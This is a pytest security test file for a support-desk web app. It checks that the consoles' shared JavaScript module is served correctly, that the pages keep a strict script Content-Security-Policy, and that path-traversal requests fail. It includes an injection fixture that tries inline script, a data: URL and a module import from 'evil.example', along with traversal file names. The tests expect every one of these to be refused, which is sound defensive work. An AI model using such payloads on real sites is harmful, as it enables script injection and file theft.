"""The consoles' shared ES module as a browser meets it: served as JavaScript, loaded under the
pages' unchanged Content-Security-Policy, and still the only script that runs there."""

from __future__ import annotations

import re

import httpx
import pytest

from engine.stub import StubEngine
from tests.browser import CHROMIUM_ARGS, needs_chromium
from tests.live_server import PASSWORD, live_server
from tests.test_agent_console import visitor_hands_over

CONSOLES = [("mei", "/agent"), ("olga", "/operator")]
# What an attacker who got markup into a console page would try: inline code, and code from a
# data: URL or another origin pulled in as a module.
INJECT = """async () => {
  const inline = document.createElement("script");
  inline.textContent = "window.__snapdesk_injected = 'inline'";
  document.head.appendChild(inline);
  const results = [];
  for (const url of ["data:text/javascript,window.__snapdesk_injected='data'", "https://evil.example/x.js"]) {
    try { await import(url); results.push("loaded " + url); } catch (e) { results.push("refused"); }
  }
  return results;
}"""


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    with live_server(tmp_path_factory.mktemp("modules"), engine=StubEngine(), login_rate_per_ip=1000,
                     widget_rate_per_ip=10_000, users={"mei": "agent", "olga": "operator"}) as (base, app):
        visitor_hands_over(base, image=False)
        yield base


def test_the_shared_module_is_served_as_javascript_and_only_listed_files_are(server):
    response = httpx.get(f"{server}/static/console-common.js")
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/javascript")
    assert response.headers["x-content-type-options"] == "nosniff"
    assert "export function apiClient" in response.text
    for name in ["..%2Fstatic_files.py", "..%2F..%2Fsettings.py", "console-common.mjs", "demo.html", "widget.js"]:
        refused = httpx.get(f"{server}/static/{name}")
        assert refused.status_code == 404, name
        assert "export" not in refused.text


@needs_chromium
def test_each_console_runs_on_the_shared_module_and_injected_script_still_does_not_run(server):
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path="/usr/bin/chromium", headless=True, args=CHROMIUM_ARGS)
        try:
            for name, path in CONSOLES:
                page = browser.new_context(locale="en-US").new_page()
                page.set_default_timeout(15_000)
                problems: list[str] = []
                page.on("pageerror", lambda error: problems.append(f"page error: {error}"))
                page.on("console", lambda message: message.type == "error" and problems.append(message.text))
                modules: list[tuple[str, str]] = []
                page.on("response", lambda r: r.url.endswith(".js") and modules.append(
                    (r.url.rsplit("/", 1)[-1], r.headers.get("content-type", ""))))
                page.goto(f"{server}{path}")
                page.wait_for_url("**/login**")
                page.fill("#name", name)
                page.fill("#password", PASSWORD)
                page.click("button[type=submit]")
                page.wait_for_url(f"**{path}")
                # Drawn by the console through the shared helpers: the name, its initial.
                page.wait_for_selector(f"#user-name:text-is('{name}')")
                assert page.text_content("#avatar") == name[0].upper()
                if path == "/agent":  # the hand-over reason, labelled by the shared reasonLabel
                    page.wait_for_selector("[data-testid=queue-item]:has-text('Asked for a person')")
                else:
                    page.wait_for_selector("[data-testid=template-item]")
                assert ("console-common.js", "text/javascript; charset=utf-8") in modules, modules
                problems.clear()  # only what the attack causes counts from here

                assert page.evaluate(INJECT) == ["refused", "refused"]
                assert page.evaluate("window.__snapdesk_injected") is None
                assert any("Content Security Policy" in p for p in problems), problems
                assert not [p for p in problems if "Content Security Policy" not in p], problems
                page.context.close()
        finally:
            browser.close()


def test_the_console_pages_keep_the_strict_script_policy(server):
    client = httpx.Client(base_url=server, follow_redirects=True)
    for name, path in CONSOLES:
        page = client.get("/login")
        csrf = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
        client.post("/login", data={"name": name, "password": PASSWORD, "csrf_token": csrf, "next": path})
        response = client.get(path)
        assert response.status_code == 200 and 'type="module"' in response.text, path
        policy = response.headers["content-security-policy"]
        script_src = next(part.strip() for part in policy.split(";") if part.strip().startswith("script-src"))
        assert script_src == "script-src 'self'", policy
        client.post("/logout", headers={"X-CSRF-Token": client.get("/console/api/me").json()["csrf_token"]})
